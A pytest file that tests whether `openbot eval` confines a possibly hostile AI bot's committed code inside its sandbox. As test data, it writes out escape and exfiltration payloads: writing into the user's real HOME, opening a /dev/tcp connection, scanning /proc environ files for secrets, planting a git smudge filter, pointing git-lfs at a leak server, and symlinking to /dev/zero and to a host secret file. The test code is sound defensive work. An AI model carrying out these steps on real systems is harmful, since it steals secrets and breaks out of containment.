"""Issue 32 E1/E2: `openbot eval` on a bot whose committed work is hostile, as root and as `nobody`.

The task's check runs the bot's committed code (its tests import it), so the check gets the agent's walls:
no write outside its clone and temp dir (the user's real $HOME stands for that here), no network, no
secret in its environment, and no way to read `openbot eval`'s own (non-dumpable) environment. eval's
git clone/checkout of the bot's commit runs no filter of the user's configuration, and the copy of the
bot's directory follows none of the links the agent planted there.
"""

from __future__ import annotations

import http.server
import json
import os
import resource
import secrets
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from openbot.run.eval.homecopy import MAX_BYTES as HOMECOPY_MAX
from tests.helpers import complete, make_bot, reply, run_cli, shell, wait_for
from tests.sandbox.conftest import User, needs_bwrap

SCRIPT = [reply("", shell("sh solve.sh")), reply("", complete())]
# What the bot's committed code does once the task's check runs it. Each line names what it reached;
# the last line says the check ran to its end.
HOSTILE = """
echo pwned > "{home}/canary" 2>/dev/null && echo REACHED-HOME
(exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo REACHED-LISTENER
env | grep -q {token} && echo REACHED-ENV
for f in /proc/[0-9]*/environ; do grep -q -a {token} "$f" 2>/dev/null && echo "REACHED-ENVIRON $f"; done
cat seen-during-run.txt
touch built.txt "$TMPDIR/scratch" && echo CHECK-WROTE-ITS-OWN
echo CHECK-RAN
"""
# What the bot's own command does during the run: the same search of every process's environment (in
# the Landlock-only fallback the agent shares openbot eval's PID namespace).
SOLVE = """
for f in /proc/[0-9]*/environ; do grep -q -a {token} "$f" 2>/dev/null && echo "RUN-REACHED-ENVIRON $f"; done \
  > seen-during-run.txt
cp hostile.sh run_tests.sh
"""
# A regression that follows `skills/z.bin -> /dev/zero` fails on this, not on a full disk.
FILE_SIZE_LIMIT = 256 << 20


def _suite(user: User, files: dict[str, str], check: str = "bash run_tests.sh") -> Path:
    table = ", ".join(f"{json.dumps(k)} = {json.dumps(v)}" for k, v in files.items())
    suite = user.base / "suite.toml"
    suite.write_text(
        f'bot = "hostile"\n[[task]]\nname = "t"\nprompt = "Fix it."\ncheck = {json.dumps(check)}\n'
        f"max_iterations = 1\nfiles = {{ {table} }}\n"
    )
    return suite


def _eval(user: User, *args: str, env: dict[str, str]) -> tuple[subprocess.CompletedProcess[str], dict]:
    """`openbot eval` as `user`, in user.base, writing at most FILE_SIZE_LIMIT bytes a file."""
    (user.base / "tmp").mkdir(exist_ok=True)  # eval's task directories, removed with base
    user.own()

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (FILE_SIZE_LIMIT, FILE_SIZE_LIMIT))

    proc = subprocess.run(
        user.argv("eval", *args, "--json", str(user.base / "out.json")),
        cwd=user.base, env=user.env({"TMPDIR": str(user.base / "tmp"), **env}), capture_output=True,
        text=True, timeout=300, stdin=subprocess.DEVNULL, preexec_fn=limit,
    )  # fmt: skip
    out = user.base / "out.json"
    return proc, json.loads(out.read_text())["results"][0] if out.exists() else {}


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A loopback listener; a connection made to it waits in its backlog (accept() then finds it)."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


def _connected(server: socket.socket) -> bool:
    try:
        conn, _ = server.accept()
    except BlockingIOError:
        return False
    conn.close()
    return True


@pytest.mark.parametrize(
    "walls",
    [
        pytest.param({}, marks=needs_bwrap, id="namespaces"),
        # Without bubblewrap (sandbox_fallback = "warn": Landlock only) the check and the agent share
        # eval's PID namespace: eval's own environ must be unreadable then.
        pytest.param({"OPENBOT_SANDBOX_FORCE_UNAVAILABLE": "bwrap"}, id="landlock-only"),
    ],
)
def test_the_check_runs_the_bots_code_inside_the_agents_walls(
    user: User, listener: socket.socket, walls: dict[str, str]
) -> None:
    token = f"s3cret-{secrets.token_hex(8)}"
    home = user.base / "home"  # the user's real $HOME
    home.mkdir()
    hostile = HOSTILE.format(home=home, port=listener.getsockname()[1], token=token)
    files = {"run_tests.sh": "true\n", "hostile.sh": hostile, "solve.sh": SOLVE.format(token=token)}
    suite = _suite(user, files)
    (user.base / "openbot-home").mkdir()
    make_bot("hostile", SCRIPT, config='sandbox_fallback = "warn"')
    secret_env = {
        "HOME": str(home),
        "ANTHROPIC_API_KEY": f"sk-ant-{token}",
        "AWS_SECRET_ACCESS_KEY": token,
        "SSH_AUTH_SOCK": f"/tmp/ssh-{token}/agent.1",
        **walls,
    }
    proc, result = _eval(user, str(suite), env=secret_env)
    output = result.get("check_output", "")
    assert "CHECK-RAN" in output and "CHECK-WROTE-ITS-OWN" in output, (proc.stderr, result)
    assert result["check_exit"] == 0 and result["solved"]
    assert "REACHED" not in output, output
    assert not (home / "canary").exists()
    assert not _connected(listener)


@needs_bwrap
def test_the_check_refuses_to_run_bare_where_the_machine_cannot_sandbox(user: User) -> None:
    home = user.base / "home"
    home.mkdir()
    suite = _suite(user, {"solve.sh": "true\n"}, check=f"echo pwned > {home}/canary")
    (user.base / "openbot-home").mkdir()
    make_bot("hostile", SCRIPT)  # sandbox_fallback = "error", the default
    proc, _ = _eval(user, str(suite), env={"HOME": str(home), "OPENBOT_SANDBOX_FORCE_UNAVAILABLE": "bwrap"})
    assert proc.returncode == 2, proc.stderr
    [line] = [x for x in proc.stderr.splitlines() if "sandbox" in x]
    assert "cannot be enforced" in line and "sandbox_fallback" in line and "Traceback" not in proc.stderr
    assert not (home / "canary").exists()


@needs_bwrap
def test_a_filter_of_the_users_git_config_never_runs_the_bots_script_in_evals_checkout(user: User) -> None:
    """`filter.x.smudge = ./tools/x.sh` names a path in the repository: in eval's clone of the bot's
    commit that is the bot's script, which ran unconfined, as the user."""
    home = user.base / "home"
    home.mkdir()
    (home / ".gitconfig").write_text('[filter "x"]\n\tsmudge = ./tools/x.sh\n\tclean = cat\n')
    ran = user.base / "filter-ran"
    plant = (
        f"mkdir -p tools && printf '#!/bin/sh\\necho \"$(pwd)\" >> {ran}\\ncat\\n' > tools/x.sh\n"
        "chmod +x tools/x.sh && echo '*.txt filter=x' > .gitattributes && echo data > z.txt\n"
        "git add -A && git commit -qm work\n"  # the WIP commit would leave z.txt out (git/repodrivers.py)
    )
    suite = _suite(user, {"solve.sh": plant}, check="test -x tools/x.sh && grep -qx data z.txt")
    (user.base / "openbot-home").mkdir()
    make_bot("hostile", SCRIPT)
    proc, result = _eval(user, str(suite), env={"HOME": str(home)})
    assert result.get("solved"), (proc.stderr, result)  # the bot's commit was checked out and checked
    assert not ran.exists(), ran.read_text()


class _Recorder(http.server.BaseHTTPRequestHandler):
    """Records every request (an LFS batch call) and answers 404."""

    seen: list[str] = []

    def do_POST(self) -> None:  # noqa: N802 (http.server's name)
        self.seen.append(f"{self.command} {self.path}")
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST

    def log_message(self, *args: object) -> None:
        pass


@needs_bwrap
@pytest.mark.skipif(shutil.which("git-lfs") is None, reason="git-lfs is not installed")
def test_git_lfs_never_runs_on_the_bots_lfsconfig_in_evals_checkout(user: User) -> None:
    """The user's `git lfs install` (filter.lfs.* in ~/.gitconfig) and the bot's `.lfsconfig` naming its
    server: eval's checkout of a pointer whose object exists nowhere asked that server for it."""
    seen: list[str] = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), type("R", (_Recorder,), {"seen": seen}))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    home = user.base / "home"
    home.mkdir()
    subprocess.run(
        ["git", "lfs", "install", "--skip-repo"], env={**os.environ, "HOME": str(home)}, check=True
    )
    oid = "ab" * 32  # could carry 32 bytes of anything the bot read
    pointer = f"version https://git-lfs.github.com/spec/v1\\noid sha256:{oid}\\nsize 12\\n"
    plant = (
        f"git config -f .lfsconfig lfs.url http://127.0.0.1:{server.server_address[1]}/lfs\n"
        "echo '*.bin filter=lfs diff=lfs merge=lfs -text' > .gitattributes\n"
        f"printf '{pointer}' > leak.bin\n"
    )
    suite = _suite(user, {"solve.sh": plant}, check=f"grep -q {oid} leak.bin")
    (user.base / "openbot-home").mkdir()
    make_bot("hostile", SCRIPT)
    try:
        proc, result = _eval(user, str(suite), env={"HOME": str(home)})
    finally:
        server.shutdown()
        server.server_close()
    assert seen == [], seen
    assert result.get("solved"), (proc.stderr, result)  # the pointer itself was checked out


def test_evals_copy_of_the_bot_follows_no_link_the_agent_planted(user: User) -> None:
    """The agent may write its bot's skills dir: a link there to /dev/zero made eval copy 1.2 GB in 5 s,
    a link to a host file copied that file where the task's agent reads it."""
    host = user.base / "host-only"
    host.mkdir(mode=0o700)
    (host / "secret.txt").write_text("host-secret-text\n")
    suite = _suite(user, {"solve.sh": "true\n"}, check="true")
    (user.base / "openbot-home").mkdir()
    bot = make_bot("hostile", SCRIPT)
    skills = bot / "skills"
    skills.mkdir()
    (skills / "z.bin").symlink_to("/dev/zero")
    (skills / "notes.md").symlink_to(host / "secret.txt")
    (skills / "ok.md").write_text("# a skill\n")
    (skills / "same.md").symlink_to("ok.md")  # a link inside the bot's directory stays a link
    (skills / "abs.md").symlink_to(skills / "ok.md")  # … into the copy, not back into the user's
    os.mkfifo(skills / "pipe")
    proc, result = _eval(user, str(suite), "--keep", env={})
    assert result.get("solved"), (proc.stderr, result)
    kept = Path(proc.stderr.split("kept: ")[1].split()[0])
    copied = kept / "task-001" / "home" / "bots" / "hostile" / "skills"
    assert (copied / "ok.md").read_text() == "# a skill\n"
    assert os.readlink(copied / "same.md") == os.readlink(copied / "abs.md") == "ok.md"
    for name in ("z.bin", "notes.md", "pipe"):
        assert not os.path.lexists(copied / name), name
        assert f"skills/{name}" in proc.stderr  # said
    home = kept / "task-001" / "home"
    trash = home / "trash"
    wait_for(lambda: not trash.exists() or not any(trash.iterdir()))  # the run's detached rm is done there
    assert "host-secret-text" not in "".join(
        p.read_text(errors="replace") for p in home.rglob("*") if p.is_file()
    )


def test_a_bot_directory_too_big_to_copy_is_one_line_before_any_task(tmp_path: Path) -> None:
    bot = make_bot("hostile", SCRIPT)
    with (bot / "skills.tar").open("wb") as f:  # sparse: nothing of it is on the disk
        f.truncate(HOMECOPY_MAX + 1)
    (tmp_path / "s.toml").write_text(
        'bot = "hostile"\n[[task]]\nprompt = "p"\ncheck = "true"\nfiles = {a = "b"}\n'
    )
    proc = run_cli("eval", "s.toml", cwd=tmp_path, env={"TMPDIR": str(tmp_path)})
    assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
    [line] = proc.stderr.strip().splitlines()
    assert f"{bot} holds more than 100 MB" in line and "eval: [1/" not in proc.stderr
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith("openbot-eval-")] == []
